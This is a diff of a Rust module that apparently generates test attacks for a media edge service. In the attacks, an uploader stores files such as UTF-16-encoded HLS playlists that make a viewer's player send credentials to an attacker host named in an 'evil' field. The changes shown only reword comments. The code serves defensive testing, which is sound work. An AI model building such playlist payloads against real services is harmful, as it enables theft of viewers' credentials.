@@ -1,7 +1,7 @@
-//! Attacks by an uploader, by hand: what he stores in his folder so that a player sends what the edge gives to its viewer
-//! to another host.
+//! Attacks by an uploader, written by hand: files in his folder that make a player send the
+//! viewer's credentials to another host.
 
-/// Names of the hosts and folders of an attack.
+/// Hosts and folders of an attack.
 #[derive(Debug, Clone, Copy)]
 pub(crate) struct Place<'a> {
     /// The edge's own origin.
@@ -10,7 +10,7 @@ pub(crate) struct Place<'a> {
     pub(crate) evil: &'a str,
     /// The uploader's folder.
     pub(crate) own: &'a str,
-    /// A folder that the uploader may not read. The viewer may.
+    /// A folder that the viewer may read, and the uploader may not.
     pub(crate) others: &'a str,
 }
 
@@ -434,7 +434,7 @@ pub(crate) fn encodings(place: &Place<'_>) -> Vec<Attack> {
     ] {
         let encode = |text: &str| text.encode_utf16().flat_map(order).collect::<Vec<u8>>();
         for uri in ["essay.mp4", "essay2.mp4", "a.m3u8"] {
-            // One of the two fillers puts the line at an even place.
+            // One of the two fillers puts the line at an even offset.
             for filler in ["\n", "\n\n"] {
                 let head = format!(
                     "#EXTM3U\n#EXT-X-TARGETDURATION:4\n#EXTINF:4,\n{}/?",
